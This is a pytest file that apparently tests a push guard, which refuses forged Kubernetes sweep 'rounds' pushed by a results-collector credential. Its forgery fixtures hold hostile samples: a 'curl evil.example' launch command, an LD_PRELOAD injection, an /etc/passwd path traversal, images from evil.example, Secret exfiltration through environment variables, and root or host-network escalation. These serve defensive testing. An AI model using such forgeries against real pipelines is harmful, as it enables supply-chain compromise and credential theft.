"""A "round" that the collector's credential pushes runs, mounts or reaches something else than the round before."""

import hashlib
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.commands.test_bootstrap import push
from tests.commands.test_pushed_rounds import (
    amended,
    climbing,
    followed,
    guarded,
    pristine,
    pristine_climb,
    searching,
)
from tests.repository import Sandbox
from tests.tiers import parameters

__all__ = ["climbing", "pristine", "pristine_climb", "searching"]  # fixtures

Forge = Callable[[Path, str], None]


def named(text: str, folder: Path, batch: str) -> str:
    spec = (folder.parents[2] / "sweeps/hill.yaml").read_bytes()
    return text.replace("{batch}", batch).replace("{digest}", hashlib.sha256(spec).hexdigest())


def replaced(path: str, old: str, new: str, *, every: bool = True) -> Forge:
    """Change a text in a file of the round; `{batch}` is its name, `{digest}` that of its spec."""

    def forge(folder: Path, batch: str) -> None:
        file = folder / path
        text = file.read_text()
        before, after = (named(text, folder, batch) for text in (old, new))
        assert before in text, f"{before!r} is not in {path}"
        file.write_text(text.replace(before, after, -1 if every else 1))

    return forge


def appended(path: str, text: str) -> Forge:
    def forge(folder: Path, batch: str) -> None:
        with (folder / path).open("a") as file:
            file.write(text.replace("{batch}", batch))

    return forge


def reindented(folder: Path, batch: str) -> None:
    """The example of the report: a reader by lines does not see the command, but the launcher does."""
    launch = json.loads((folder / "launch.json").read_text())
    launch["command"] = ["sh", "-c", "curl evil.example"]
    (folder / "launch.json").write_text(json.dumps(launch, indent=2))


def on_one_line(folder: Path, batch: str) -> None:
    launch = json.loads((folder / "launch.json").read_text())
    (folder / "launch.json").write_text(json.dumps(launch))


JOB, LAUNCH, LOCK, KUSTOMIZATION = "job.yaml", "launch.json", "batch.yaml", "kustomization.yaml"
ENDED = """ "stop": [
  ],
  "command": [
  "sh",
  "-c",
  "evil"
  ],
  "a": {
  "b": [
 ],
 "columns": ["""
"""JSON ignores indentation: rules that end before they seem to, and a command of its own."""
RULES = """ "stop": [
  {
   "goal": "minimize",
   "rule": "median",
   "thresholds": [
    [
     1,
     1.5e-05
    ],
    [
     10,
     -2
    ]
   ],
   "value": "best"
  },
  {
   "from": 3,
   "goal": "minimize",
   "margin": 0.001,
   "reports": 4,
   "rule": "patience",
   "until": 8
  }
 ],
"""
FORGERIES: dict[str, Forge] = {
    "another command, re-indented": reindented,
    "the same launch.json on one line": on_one_line,
    "another command as it is written": replaced(LAUNCH, '"code/train.py"', '"/sweep/results/evil.py"'),
    "a second command at the end": replaced(LAUNCH, ' "version": 1', ' "command": ["sh"],\n "version": 1'),
    "another interpreter": replaced(LAUNCH, '"interpreter": "python3"', '"interpreter": "sh"'),
    "a secret": replaced(LAUNCH, '"secrets": {}', '"secrets": {"X": "/sweep/git/password"}'),
    "a longer time": replaced(LAUNCH, '"timeout_seconds": 60', '"timeout_seconds": 999999'),
    "a command among the rules to stop": replaced(
        LAUNCH, ' "timeout_seconds"', ' "stop": [\n  "sh -c evil"\n ],\n "timeout_seconds"'
    ),
    "a command after rules that have ended": replaced(LAUNCH, ' "columns": [', ENDED, every=False),
    "rules that end twice": replaced(LAUNCH, ' "timeout_seconds"', ' "stop": [\n   ],\n "timeout_seconds"'),
    "rules twice": replaced(LAUNCH, ' "timeout_seconds"', f'{RULES}{RULES} "timeout_seconds"'),
    "a rule with another member": replaced(
        LAUNCH, ' "timeout_seconds"', f'{RULES.replace("reports", "command")} "timeout_seconds"'
    ),
    "an object as a rule's threshold": replaced(
        LAUNCH, ' "timeout_seconds"', f'{RULES.replace("    [", "    {")} "timeout_seconds"'
    ),
    "tables that end early": replaced(LAUNCH, '   "first": 0', '   "first": 0\n }\n ],'),
    "what stands for the name of the batch": replaced(JOB, 'subPath: "{batch}/0"', 'subPath: "BATCH/0"'),
    "a command among the tables": replaced(LAUNCH, '   "first": 0', '   "first": 0,\n   "command": ["sh"]'),
    "a remote base": replaced(
        KUSTOMIZATION, "resources:\n", 'resources:\n- "https://evil.example/x?ref=main"\n'
    ),
    "a patch": appended(KUSTOMIZATION, 'patches:\n- path: "hyperparams.csv"\n'),
    "a file of the runner's": replaced(
        KUSTOMIZATION, '  - "launch.json"\n', '  - "launch.json"\n  - "x=../../../../etc/passwd"\n'
    ),
    "another launcher in the map": replaced(
        KUSTOMIZATION, '  - "launch.json"', '  - "launch.json"\n  - "launch.py=hyperparams.csv"'
    ),
    "another base of the launcher": replaced(KUSTOMIZATION, "base/launcher/v1", "base/launcher/v2"),
    "a plug-in": appended(KUSTOMIZATION, 'helmCharts:\n- name: "evil"\n'),
    "a variable": replaced(
        JOB,
        '        - name: "HOME"',
        '        - name: "LD_PRELOAD"\n          value: "/x.so"\n        - name: "HOME"',
    ),
    "another value of a variable": replaced(JOB, 'value: "/sweep/scratch"', 'value: "/sweep/results"'),
    "a variable called like a parameter, from a Secret": replaced(
        JOB,
        '        - name: "HOME"',
        '        - name: "SWEEP_PARAM_Z"\n          valueFrom: {secretKeyRef: {name: git, key: password}}\n'
        '        - name: "HOME"',
    ),
    "another first word of the command": replaced(
        JOB, '        - "python3"', '        - "/sweep/results/python3"'
    ),
    "arguments of no command": replaced(JOB, '        - "--"\n', ""),
    "arguments of the launcher": replaced(JOB, '        - "--"\n', '        - "-c"\n        - "--"\n'),
    "another folder of the results": replaced(JOB, 'subPath: "{batch}/0"', 'subPath: "other-b1-00000000/0"'),
    "more cores": replaced(JOB, 'cpu: "1"', 'cpu: "64"'),
    "capabilities": replaced(JOB, '            - "ALL"', '            - "NET_RAW"'),
    "root": replaced(JOB, "runAsUser: 65532", "runAsUser: 0"),
    "a second container": replaced(
        JOB, "      containers:\n", '      containers:\n      - {name: "x", image: "evil.example/x"}\n'
    ),
    "an init container": replaced(
        JOB,
        "      containers:\n",
        '      initContainers:\n      - image: "evil.example/x"\n      containers:\n',
    ),
    "another object": appended(JOB, '---\napiVersion: "v1"\nkind: "Pod"\nmetadata:\n  name: "{batch}-x"\n'),
    "an object after a document's end": appended(JOB, '...\n---\nkind: "Pod"\n'),
    "lines that only look like lines": replaced(JOB, "      containers:\n", "      containers:\x1e"),
    "the node's network": replaced(JOB, "restartPolicy:", "hostNetwork: true\n      restartPolicy:"),
    "another image in the lock": replaced(LOCK, "registry.example.org/train@", "evil.example/train@"),
    "another code in the lock": replaced(LOCK, '    path: "code"', '    path: "trainer"'),
    "another base in the lock": replaced(LOCK, '- "launcher/v1"', '- "launcher/v9"'),
    "more retries": replaced(LOCK, "retries: 0", "retries: 1000"),
}


ONE_OF_EACH_KIND = (
    "another command, re-indented",
    "a secret",
    "a command after rules that have ended",
    "a rule with another member",
    "a command among the tables",
    "a remote base",
    "another launcher in the map",
    "a variable",
    "another first word of the command",
    "root",
    "a second container",
    "an object after a document's end",
    "lines that only look like lines",
    "another image in the lock",
    "more retries",
)


@pytest.mark.sampled(2)
@pytest.mark.parametrize("forgery", parameters(FORGERIES, ONE_OF_EACH_KIND, "more attacks"))
def test_a_round_that_is_made_otherwise_is_refused(forgery: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    FORGERIES[forgery](searching.root / "overlays/active" / batch, batch)
    amended(searching)

    refusal = push(searching)
    assert f"{batch} is not made as" in refusal
    assert "[batch-forged]" in refusal


AT_ONCE: dict[str, Forge] = {
    "more trials": replaced(LOCK, "trials: 3", "trials: 4"),
    "as many trials as a number can count": replaced(LOCK, "trials: 3", f"trials: {'9' * 400}"),
    "more trials, the lock saying so twice": appended(LOCK, "trials: 400\n"),
    "a trial's Job twice": lambda folder, _: twice(folder / JOB, 1),
    "a trial's Job a thousand times": lambda folder, _: twice(folder / JOB, 1000),
}
"""Amounts of a round of three Jobs."""


def twice(file: Path, times: int) -> None:
    *_, last = file.read_text().split("---\n")
    with file.open("a") as opened:
        opened.write(f"---\n{last}" * times)


@pytest.mark.sampled(1)
@pytest.mark.parametrize(
    "forgery", parameters(AT_ONCE, ("more trials", "a trial's Job twice"), "more attacks")
)
def test_a_round_that_takes_more_of_the_cluster_than_any_before_is_refused(
    forgery: str, searching: Sandbox
) -> None:
    (batch,) = searching.active()
    AT_ONCE[forgery](searching.root / "overlays/active" / batch, batch)
    amended(searching)

    assert f"{batch} asks for more at once than any recorded batch of hill" in push(searching)


@pytest.fixture(scope="module")
def pristine_indexed(tmp_path_factory: pytest.TempPathFactory) -> Sandbox:
    """The same with one Indexed Job for a round."""
    folder = tmp_path_factory.mktemp("indexed")
    return followed(folder, size=6, more="  shape: indexed\n")


@pytest.fixture
def indexed(pristine_indexed: Sandbox, tmp_path: Path) -> Sandbox:
    return guarded(pristine_indexed, tmp_path)


MORE_AT_ONCE = (
    ("  parallelism: 4\n", "  parallelism: 6\n"),
    ("  parallelism: 4\n", "  parallelism: 100000\n"),
    ("  parallelism: 4\n", "  parallelism: 4\n  parallelism: 5\n"),
    ("  parallelism: 4\n", "  parallelism: 05\n"),
    ("  completions: 6\n", "  completions: 7\n"),
    ("  completions: 6\n", "  completions: 100000\n"),
    ("  completions: 6\n  parallelism: 4\n", "  completions: 100\n  parallelism: 50\n"),
    ("  maxFailedIndexes: 6\n", "  maxFailedIndexes: 7\n"),
    ("  maxFailedIndexes: 6\n", "  maxFailedIndexes: 2147483647\n"),
)
"""Amounts of a round of one Indexed Job, and larger ones."""


@pytest.mark.sampled(1)
@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param(old, new, marks=[pytest.mark.full_suite("more attacks")] if number % 4 else [])
        for number, (old, new) in enumerate(MORE_AT_ONCE)
    ],
)
def test_a_round_of_one_job_that_runs_more_at_once_than_any_before_is_refused(
    old: str, new: str, indexed: Sandbox
) -> None:
    (batch,) = indexed.active()
    replaced(JOB, old, new)(indexed.root / "overlays/active" / batch, batch)
    amended(indexed)

    assert f"{batch} asks for more at once than any recorded batch of hill" in push(indexed)


def test_a_round_of_one_job_is_accepted_as_it_is_and_when_it_takes_less(indexed: Sandbox) -> None:
    (batch,) = indexed.active()
    folder = indexed.root / "overlays/active" / batch
    replaced(LOCK, "trials: 6", "trials: 2")(folder, batch)
    replaced(JOB, "  completions: 6\n  parallelism: 4\n", "  completions: 2\n  parallelism: 2\n")(
        folder, batch
    )
    amended(indexed)

    assert push(indexed) == ""


OTHER_SPECS: dict[str, Forge] = {
    "of nothing": replaced(LOCK, "{digest}", hashlib.sha256(b"").hexdigest()),
    "of another time": replaced(LOCK, "{digest}", "5" * 64),
    "of another time, beside this one": replaced(
        LOCK,
        '  digest: "sha256:{digest}"\n',
        f'  digest: "sha256:{"5" * 64}"\n  digest: "sha256:{{digest}}"\n',
    ),
    "in its Jobs": replaced(JOB, 'spec-digest: "sha256:{digest}"', f'spec-digest: "sha256:{"5" * 64}"'),
    "in one of its Jobs": replaced(
        JOB, 'spec-digest: "sha256:{digest}"', f'spec-digest: "sha256:{"5" * 64}"', every=False
    ),
}


@pytest.mark.sampled(1)
@pytest.mark.parametrize(
    "forgery", parameters(OTHER_SPECS, ("of another time", "in one of its Jobs"), "more attacks")
)
def test_a_round_of_another_spec_is_refused(forgery: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    OTHER_SPECS[forgery](searching.root / "overlays/active" / batch, batch)
    amended(searching)

    assert f"{batch} is not made" in push(searching)


def test_a_round_of_a_spec_that_is_gone_is_refused(searching: Sandbox) -> None:
    round_ = searching.git("rev-parse", "HEAD").strip()
    searching.git("reset", "-q", "--hard", "origin/main")
    searching.git("rm", "-q", "sweeps/hill.yaml")
    searching.git("commit", "-q", "-m", "Remove the spec")
    assert push(searching, pusher="ada") == ""
    searching.git("cherry-pick", round_)

    assert "hill has no spec" in push(searching)


def test_a_round_brings_no_change_of_another_sweep_with_it(searching: Sandbox) -> None:
    (batch,) = searching.active()
    (archived,) = (path for path in (searching.root / "overlays/archive").iterdir() if path.is_dir())
    other = batch.replace("hill-", "dale-")
    for path in (
        f"overlays/active/{other}/job.yaml",
        f"overlays/archive/{archived.name}/job.yaml",
        f"overlays/archive/{other}/job.yaml",
        f"clusters/flux/active/{other}.yaml",
        "sweeps/dale.yaml",
        "sweeps/hill.yaml",
    ):
        before = searching.git("rev-parse", "HEAD").strip()
        searching.write(path, "kind: Job\n")
        amended(searching)

        assert "the collector may push nothing but results" in push(searching), path
        searching.git("reset", "-q", "--hard", before)

    assert push(searching) == ""


@pytest.mark.sampled(1)
@pytest.mark.parametrize("missing", ["batch.yaml", "job.yaml", "kustomization.yaml", "launch.json"])
def test_a_round_without_one_of_its_files_is_refused(missing: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    searching.git("rm", "-q", f"overlays/active/{batch}/{missing}")
    amended(searching)

    assert push(searching) != ""


def test_values_numbers_and_thresholds_are_the_rounds_own(searching: Sandbox) -> None:
    (batch,) = searching.active()
    folder = searching.root / "overlays/active" / batch
    for forge in (
        replaced(LAUNCH, ' "timeout_seconds"', f'{RULES} "timeout_seconds"'),
        replaced(LOCK, 'generator: "0.1.0"', 'generator: "0.2.0"'),
        replaced(JOB, 'sweepledger.dev/generator: "0.1.0"', 'sweepledger.dev/generator: "0.2.0"'),
    ):
        forge(folder, batch)
    amended(searching)

    assert push(searching) == ""


@pytest.mark.sampled(1)
@pytest.mark.parametrize("emptied", [JOB, KUSTOMIZATION, LAUNCH])
def test_a_round_with_an_empty_file_is_refused(emptied: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    (searching.root / "overlays/active" / batch / emptied).write_text("")
    amended(searching)

    assert f"{batch} has an empty {emptied}" in push(searching)


def test_a_round_whose_lock_says_nothing_but_its_number_is_refused(searching: Sandbox) -> None:
    (batch,) = searching.active()
    lock = searching.root / "overlays/active" / batch / LOCK
    kept = ("number:", "parent:", "round:", "spec:", "  digest:")
    lock.write_text("".join(f"{one}\n" for one in lock.read_text().splitlines() if one.startswith(kept)))
    amended(searching)

    assert f"{batch} is not made as" in push(searching)


@pytest.mark.sampled(1)
@pytest.mark.parametrize("number", ["1", "3", "9999", "02"])
def test_a_round_that_is_not_the_next_is_refused(number: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    lock = searching.root / "overlays/active" / batch / LOCK
    lock.write_text(lock.read_text().replace("\nround: 2\n", f"\nround: {number}\n"))
    amended(searching)

    assert f"{batch} is not the round after" in push(searching)


@pytest.mark.sampled(1)
@pytest.mark.parametrize(
    "name", ["h..l-b.-.......d", "hill-b2-0000000", "hill-b02-00000000", "Hill-b2-00000000"]
)
def test_a_round_whose_name_is_a_pattern_or_no_name_is_refused(name: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    searching.git("mv", f"overlays/active/{batch}", f"overlays/active/{name}")
    searching.git("mv", f"clusters/flux/active/{batch}.yaml", f"clusters/flux/active/{name}.yaml")
    amended(searching)

    assert f"{name} is no name of a batch" in push(searching)


NO_RESULTS = (
    "results/.gitattributes",
    "results/hill/.gitattributes",
    "results/hill/.sweepledger/code/train.py",
    "results/hill/kustomization.yaml",
    "results/hill/figures/x/y.svg",
    "results/hill/figures/x.html",
    "results/hill/records/x.py",
    "results/hill/summary.csv/x",
    "results/hill/sub/README.md",
    "results/hi ll/README.md",
    "results/.hill/README.md",
)


@pytest.mark.sampled(1)
@pytest.mark.parametrize(
    "path",
    parameters(
        NO_RESULTS,
        ("results/.gitattributes", "results/hill/figures/x.html", "results/hi ll/README.md"),
        "more attacks",
    ),
)
def test_among_results_only_results_are_accepted(path: str, searching: Sandbox) -> None:
    file = searching.root / path
    if file.parent.is_file():
        file.parent.unlink()
    searching.write(path, "x\n")
    searching.git("add", "--all", "--force", "results")
    searching.git("commit", "-q", "--amend", "--no-edit")

    assert "may push nothing but results" in push(searching)


def test_a_batch_is_archived_only_with_its_records(searching: Sandbox) -> None:
    searching.git("rm", "-rq", "--cached", "results")
    searching.git("commit", "-q", "--amend", "--no-edit")

    assert "was moved without results/hill/records/" in push(searching)


def test_what_another_ref_shows_in_place_of_a_commit_is_not_judged(searching: Sandbox) -> None:
    assert push(searching) == ""
    start = searching.git("rev-parse", "HEAD").strip()
    searching.write("results/hill/README.md", "x\n")
    good = searching.commit("Results")
    searching.git("reset", "-q", "--hard", start)
    searching.write("code/train.py", "evil\n")
    evil = searching.commit("Code")

    assert push(searching, f"{good}:refs/replace/{evil}", pusher="ada") == ""
    assert "code/train.py" in push(searching, f"{evil}:refs/heads/main")
